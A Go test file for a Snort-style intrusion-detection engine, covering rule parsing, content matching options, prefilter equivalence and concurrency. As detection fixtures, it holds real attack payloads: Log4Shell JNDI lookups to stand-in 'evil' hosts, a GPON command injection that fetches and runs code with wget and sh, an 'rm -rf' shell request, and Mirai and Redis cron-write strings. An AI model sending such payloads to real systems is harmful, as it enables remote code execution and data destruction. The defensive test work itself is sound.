package ids

import (
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

func engineFrom(t *testing.T, text string) *Engine {
	t.Helper()
	e, err := NewEngineFromText(text)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestEngineMatchBasics(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any 80 (msg:"hit"; content:"attack"; sid:1;)`)
	if got := e.Match("tcp", 80, []byte("an attack payload")); len(got) != 1 || got[0].SID != 1 {
		t.Errorf("Match = %+v", got)
	}
	if got := e.Match("tcp", 80, []byte("benign")); len(got) != 0 {
		t.Errorf("benign matched: %+v", got)
	}
	if got := e.Match("tcp", 81, []byte("an attack payload")); len(got) != 0 {
		t.Errorf("wrong port matched: %+v", got)
	}
	if got := e.Match("udp", 80, []byte("an attack payload")); len(got) != 0 {
		t.Errorf("wrong proto matched: %+v", got)
	}
}

func TestEngineNocase(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"nc"; content:"JNDI"; nocase; sid:1;)`)
	for _, payload := range []string{"${jndi:ldap", "${JNDI:LDAP", "${jNdI:x"} {
		if len(e.Match("tcp", 80, []byte(payload))) != 1 {
			t.Errorf("nocase miss on %q", payload)
		}
	}
}

func TestEngineOffsetDepth(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"od"; content:"GET"; offset:0; depth:3; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("GET / HTTP/1.1"))) != 1 {
		t.Error("anchored GET should match at offset 0")
	}
	if len(e.Match("tcp", 80, []byte("XGET / HTTP/1.1"))) != 0 {
		t.Error("GET at offset 1 should not match depth-3 window")
	}
}

func TestEngineDistanceWithin(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"dw"; content:"union"; nocase; content:"select"; nocase; distance:1; within:40; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("GET /?q=1+UNION+SELECT+passwd"))) != 1 {
		t.Error("union...select should match")
	}
	if len(e.Match("tcp", 80, []byte("GET /?q=unionselect"))) != 0 {
		t.Error("distance:1 requires a gap")
	}
	far := "union" + strings.Repeat("x", 100) + "select"
	if len(e.Match("tcp", 80, []byte(far))) != 0 {
		t.Error("select beyond within-window should not match")
	}
}

func TestEngineNegatedContent(t *testing.T) {
	e := engineFrom(t, `alert tcp any any -> any any (msg:"neg"; content:"login"; content:!"authorized"; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("login attempt"))) != 1 {
		t.Error("should match without the negated token")
	}
	if len(e.Match("tcp", 80, []byte("login authorized"))) != 0 {
		t.Error("negated token present: should not match")
	}
}

func TestEngineContentOrdering(t *testing.T) {
	// Unanchored contents may match anywhere, but relative ones are ordered.
	e := engineFrom(t, `alert tcp any any -> any any (msg:"ord"; content:"first"; content:"second"; distance:0; sid:1;)`)
	if len(e.Match("tcp", 80, []byte("first then second"))) != 1 {
		t.Error("ordered pair should match")
	}
	if len(e.Match("tcp", 80, []byte("second then first"))) != 0 {
		t.Error("reversed pair should not match with distance anchor")
	}
}

func TestEngineDuplicateSID(t *testing.T) {
	text := `alert tcp any any -> any any (msg:"a"; content:"x"; sid:7;)
alert tcp any any -> any any (msg:"b"; content:"y"; sid:7;)`
	if _, err := NewEngineFromText(text); err == nil {
		t.Error("duplicate sid should be rejected")
	}
}

func TestEngineMalicious(t *testing.T) {
	e := DefaultEngine()
	malicious := []string{
		"GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n",
		"POST /GponForm/diag_Form HTTP/1.1\r\n\r\nXWebPageName=diag;wget http://1.2.3.4/m -O-; sh",
		"GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1\r\n",
		"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n",
		"enable\r\nsystem\r\n/bin/busybox MIRAI\r\n",
		"CONFIG SET dir /var/spool/cron\r\n",
	}
	for _, p := range malicious {
		if !e.Malicious("tcp", 80, []byte(p)) {
			t.Errorf("payload should be malicious: %q", p)
		}
	}
	benign := []string{
		"GET / HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
		"GET /robots.txt HTTP/1.1\r\n\r\n",
		"SSH-2.0-OpenSSH_8.2\r\n",
	}
	for _, p := range benign {
		if e.Malicious("tcp", 80, []byte(p)) {
			t.Errorf("payload should be benign: %q", p)
		}
	}
}

func TestReconAlertsButNotMalicious(t *testing.T) {
	e := DefaultEngine()
	probe := []byte("GET /.env HTTP/1.1\r\nHost: x\r\n\r\n")
	alerts := e.Match("tcp", 80, probe)
	if len(alerts) == 0 {
		t.Fatal("recon probe should alert")
	}
	if alerts[0].Classtype != AttemptedRecon {
		t.Errorf("classtype = %v", alerts[0].Classtype)
	}
	if e.Malicious("tcp", 80, probe) {
		t.Error("recon alone should not be malicious")
	}
}

func TestDefaultRulesetCompiles(t *testing.T) {
	e := DefaultEngine()
	if e.Len() < 40 {
		t.Errorf("default ruleset has %d rules, want >= 40", e.Len())
	}
	classtypes := map[Classtype]bool{}
	for _, r := range e.rules {
		classtypes[r.Classtype] = true
		if r.Msg == "" {
			t.Errorf("rule sid %d has no msg", r.SID)
		}
	}
	for _, want := range []Classtype{
		TrojanActivity, WebApplicationAttack, ProtocolCommand, AttemptedUser,
		AttemptedAdmin, AttemptedRecon, BadUnknown, MiscActivity,
	} {
		if !classtypes[want] {
			t.Errorf("default ruleset missing classtype %q", want)
		}
	}
}

func TestEngineNeverPanicsProperty(t *testing.T) {
	e := DefaultEngine()
	f := func(payload []byte, port uint16) bool {
		_ = e.Match("tcp", port, payload)
		_ = e.Malicious("tcp", port, payload)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestEngineDeterministicProperty(t *testing.T) {
	e := DefaultEngine()
	f := func(payload []byte) bool {
		a := e.Match("tcp", 80, payload)
		b := e.Match("tcp", 80, payload)
		if len(a) != len(b) {
			return false
		}
		for i := range a {
			if a[i] != b[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// matchBruteForce is Match without the prefilter buckets: every rule's
// header is checked per call. The reference the bucketed path must
// reproduce exactly (same alerts, same order).
func matchBruteForce(e *Engine, proto string, port uint16, payload []byte) []Alert {
	var alerts []Alert
	for _, r := range e.rules {
		if r.Proto != "any" && r.Proto != "ip" && r.Proto != proto {
			continue
		}
		if !r.Ports.Contains(port) {
			continue
		}
		if matchContents(r.Contents, payload) {
			alerts = append(alerts, Alert{SID: r.SID, Msg: r.Msg, Classtype: r.Classtype})
		}
	}
	return alerts
}

// TestEnginePrefilterEquivalence checks the per-(proto, port) rule
// buckets never change Match results across the ports and protocols
// the study exercises, plus boundary ports.
func TestEnginePrefilterEquivalence(t *testing.T) {
	e := DefaultEngine()
	payloads := [][]byte{
		nil,
		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1\r\n\r\n"),
		[]byte("\x16\x03\x01\x00\x04\x01"),
		[]byte("SSH-2.0-OpenSSH_8.9"),
		[]byte("random junk payload with no structure at all"),
	}
	for _, proto := range []string{"tcp", "udp", "icmp"} {
		for _, port := range []uint16{1, 22, 23, 80, 445, 2323, 8080, 17128, 65535} {
			for _, payload := range payloads {
				got := e.Match(proto, port, payload)
				want := matchBruteForce(e, proto, port, payload)
				if len(got) != len(want) {
					t.Fatalf("Match(%s, %d): %d alerts, want %d", proto, port, len(got), len(want))
				}
				for i := range want {
					if got[i] != want[i] {
						t.Fatalf("Match(%s, %d) alert %d = %+v, want %+v", proto, port, i, got[i], want[i])
					}
				}
				gotMal := e.Malicious(proto, port, payload)
				wantMal := false
				for _, a := range want {
					if MaliciousClasstypes[a.Classtype] {
						wantMal = true
					}
				}
				if gotMal != wantMal {
					t.Fatalf("Malicious(%s, %d) = %v, want %v", proto, port, gotMal, wantMal)
				}
			}
		}
	}
}

// TestEngineConcurrentMatch hammers the lazily-built prefilter buckets
// from many goroutines on overlapping (proto, port) pairs; run with
// -race to check the sync.Map publication.
func TestEngineConcurrentMatch(t *testing.T) {
	e := DefaultEngine()
	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\n\r\n")
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				port := uint16(22 + (i+w)%5)
				e.Match("tcp", port, payload)
				e.Malicious("tcp", port, payload)
			}
		}(w)
	}
	wg.Wait()
}

// TestMaliciousPrefilterEquivalence checks the malicious-classtype
// bucket: Malicious must agree with scanning Match's alerts for
// malicious classtypes on every (proto, port, payload) combination.
func TestMaliciousPrefilterEquivalence(t *testing.T) {
	e := DefaultEngine()
	payloads := [][]byte{
		[]byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: s\r\n\r\n"),
		[]byte("GET / HTTP/1.1\r\nHost: s\r\n\r\n"),
		[]byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: s\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=;wget http://d/g"),
		[]byte("\xff\xfd\x03\xff\xfb\x18"),
		[]byte("random bytes that match nothing"),
	}
	for _, proto := range []string{"tcp", "udp"} {
		for _, port := range []uint16{22, 23, 80, 443, 8080, 2323, 9999} {
			for _, p := range payloads {
				want := false
				for _, a := range e.Match(proto, port, p) {
					if MaliciousClasstypes[a.Classtype] {
						want = true
					}
				}
				if got := e.Malicious(proto, port, p); got != want {
					t.Fatalf("%s/%d %.20q: Malicious=%v, Match says %v", proto, port, p, got, want)
				}
			}
		}
	}
}
